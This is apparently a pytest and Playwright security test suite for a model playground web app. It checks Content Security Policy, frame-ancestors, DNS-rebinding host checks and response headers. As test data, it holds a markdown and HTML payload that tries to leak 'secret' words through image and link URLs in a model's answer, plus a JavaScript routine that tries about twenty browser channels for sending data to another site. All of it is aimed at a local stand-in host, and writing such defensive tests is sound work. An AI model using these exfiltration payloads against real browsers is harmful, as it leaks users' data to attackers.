"""Defends a visitor in a real browser: from an answer that somebody poisoned, from a page in another's frame, and from
a name that leads to one's own machine."""

import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.security.foreign_site import NAMES, RESOLVER, ForeignSite, foreign_site
from tests.support.asking import until
from tests.support.browser import ARGUMENTS, chromium
from tests.support.running_app import RunningApp, running_app

PATIENCE_MS = 60_000
expect.set_options(timeout=PATIENCE_MS)

WAYS_OUT = """async (url) => {
  const tried = [];
  const attempt = (way, act) => { try { act(); tried.push(way); } catch { tried.push(way); } };
  attempt("image", () => { document.body.append(Object.assign(new Image(), { src: `${url}/image` })); });
  attempt("style", () => { document.body.style.background = `url(${url}/style)`; });
  attempt("font", () => { document.fonts.add(new FontFace("f", `url(${url}/font)`)); });
  attempt("beacon", () => { navigator.sendBeacon(`${url}/beacon`, "words"); });
  attempt("socket", () => { new WebSocket(url.replace("http", "ws") + "/socket"); });
  attempt("events", () => { new EventSource(`${url}/events`); });
  for (const [name, attributes] of [
    ["iframe", { src: `${url}/frame` }], ["object", { data: `${url}/object` }], ["embed", { src: `${url}/embed` }],
    ["script", { src: `${url}/script` }], ["video", { src: `${url}/video` }], ["audio", { src: `${url}/audio` }],
    ["link", { rel: "stylesheet", href: `${url}/sheet` }], ["link", { rel: "prefetch", href: `${url}/prefetch` }],
    ["link", { rel: "manifest", href: `${url}/manifest` }], ["link", { rel: "icon", href: `${url}/icon` }],
  ]) attempt(name, () => { document.head.append(Object.assign(document.createElement(name), attributes)); });
  attempt("form", () => {
    const form = Object.assign(document.createElement("form"), { action: `${url}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  });
  await fetch(`${url}/fetch`, { method: "POST", mode: "no-cors", body: "words" }).catch(() => tried.push("fetch"));
  return tried;
}"""
RUN_INLINE = """() => {
  window.ran = false;
  document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = true">');
  document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = true" }));
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=chromium(), args=[*ARGUMENTS, RESOLVER])
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def site() -> Iterator[ForeignSite]:
    with foreign_site() as running:
        yield running


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(locale="en-US")
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    yield page
    context.close()


def test_an_answer_sends_nothing_to_another_site(public_app: RunningApp, site: ForeignSite, visitor: Page) -> None:
    """A model may be taught to write the address of an image with what was said before in it."""
    visitor.goto(public_app.url)
    leak = site.url(NAMES[1])
    said = f"![x]({leak}/markdown?words=secret) <img src='{leak}/html'> [link]({leak}/link)"
    visitor.locator("#generate-prompt textarea").fill(said)
    visitor.locator("#generate-prompt textarea").press("Enter")
    expect(visitor.locator("#generate-chat .bot").first).to_be_visible()
    expect(visitor.locator("#generate-chat").get_by_role("link", name="link")).to_be_visible()
    tried = visitor.evaluate(WAYS_OUT, leak)
    assert len(tried) > 15
    visitor.evaluate(WAYS_OUT, site.url().replace(NAMES[0], "127.0.0.1"))
    visitor.wait_for_function("performance.getEntriesByType('resource').length > 0")
    assert site.asked == []


def test_no_script_of_anothers_runs(public_app: RunningApp, visitor: Page) -> None:
    visitor.goto(public_app.url)
    refused: list[str] = []
    visitor.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    visitor.evaluate(RUN_INLINE)
    until(lambda: visitor.evaluate("window.ran") or len(refused) == 2)
    assert not visitor.evaluate("window.ran")


def test_the_page_works_under_its_policy(public_app: RunningApp, visitor: Page) -> None:
    """In every tab, with its fonts, and without anything of another site."""
    refused: list[str] = []
    foreign: list[str] = []
    visitor.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    visitor.on("pageerror", lambda error: refused.append(str(error)))
    visitor.on("request", lambda asked: foreign.append(asked.url) if not is_ours(asked.url, public_app.url) else None)
    visitor.goto(public_app.url)
    for name in ("Translate", "Summarize", "Sentiment", "Answer", "Fine-tune", "Adapters", "Generate"):
        visitor.get_by_role("tab", name=name).first.click()
        expect(visitor.get_by_role("tab", name=name).first).to_have_attribute("aria-selected", "true")
    visitor.locator("#generate-prompt textarea").fill("Say **something**.")
    visitor.locator("#generate-prompt textarea").press("Enter")
    expect(visitor.locator("#generate-chat .bot").first).to_be_visible()
    visitor.get_by_role("button", name="Theme").click()
    visitor.get_by_role("button", name="中文").click()
    expect(visitor.get_by_role("tab", name="微调").first).to_be_visible()
    visitor.wait_for_function("document.fonts.status === 'loaded'")
    assert visitor.evaluate("[...document.fonts].filter((font) => font.status === 'error').length") == 0
    assert (refused, foreign) == ([], [])


def is_ours(url: str, own: str) -> bool:
    return url.startswith((own, "data:", "blob:"))


@pytest.mark.parametrize("mode", ["public", "local"])
def test_no_other_site_shows_the_page_in_a_frame(
    public_app: RunningApp, site: ForeignSite, visitor: Page, tmp_path: Path, mode: str
) -> None:
    """Defends from clicks that a visitor means for what lies above it."""
    if mode == "public":
        assert framed(visitor, site, public_app) == 0
        return
    with running_app(tmp_path) as app:
        assert framed(visitor, site, app) == 0


def framed(visitor: Page, site: ForeignSite, app: RunningApp) -> int:
    """How many parts of the page are there, in a frame of another site's."""
    site.page = f'<iframe id="framed" src="{app.url}"></iframe>'
    refused: list[str] = []
    visitor.on("console", lambda said: refused.append(said.text) if "frame-ancestors" in said.text else None)
    visitor.goto(site.url())
    until(lambda: bool(visitor.evaluate("1") and refused), 60.0)
    return visitor.frame_locator("#framed").locator("gradio-app").count()


def test_the_hub_may_show_it(public_app: RunningApp, tmp_path: Path) -> None:
    """A Space is a frame of the hub's; a page on one's own machine is in nobody's."""
    policy = httpx.get(public_app.url).headers["content-security-policy"]
    assert "frame-ancestors 'self' https://huggingface.co https://*.hf.space" in policy


def test_a_name_made_to_lead_here_opens_nothing(site: ForeignSite, visitor: Page, tmp_path: Path) -> None:
    with running_app(tmp_path) as app:
        port = app.url.rpartition(":")[2]
        answer = visitor.goto(f"http://{NAMES[0]}:{port}/")
        assert answer is not None
        assert answer.status == 400
        expect(visitor.locator("body")).to_contain_text("PLAYGROUND_HOSTS")
        asked = visitor.evaluate(
            """async () => (await fetch("/gradio_api/call/jobs", { method: "POST", body: '{"data": []}',
            headers: { "content-type": "application/json" } }).catch(() => ({ status: 0 }))).status"""
        )
        assert asked in (0, 400)
        site.page = "<p>foreign</p>"
        visitor.goto(site.url())
        sent = visitor.evaluate(
            """async (url) => (await fetch(`${url}/gradio_api/call/new_key`, { method: "POST", body: '{"data": []}',
            mode: "no-cors" }).catch(() => ({ type: "refused" }))).type""",
            app.url,
        )
        assert sent == "refused"
        assert httpx.post(f"{app.url}/gradio_api/call/jobs", json={"data": []}).status_code == 200


@pytest.mark.parametrize(
    "path", ["/", "/config", "/gradio_api/info", "/model/state", "/nothing", "/gradio_api/file=/x"]
)
def test_every_answer_tells_the_browser(public_app: RunningApp, path: str) -> None:
    """Also that nothing keeps the page by which a key was given: another would get it."""
    headers = httpx.get(public_app.url + path).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cache-control"] == "no-store"
    assert "frame-ancestors" in headers["content-security-policy"]
    assert ("set-cookie" in headers) == (path == "/")


def test_each_page_has_a_policy_of_its_own(public_app: RunningApp) -> None:
    """Defends the mark by which our scripts are known: whoever has seen one page cannot know the next one's."""
    marks = {
        re.findall(r"nonce-([^']+)", httpx.get(public_app.url).headers["content-security-policy"])[0] for _ in "ab"
    }
    assert len(marks) == 2
    page = httpx.get(public_app.url).text
    assert not re.search(r"<script(?! nonce)", page)
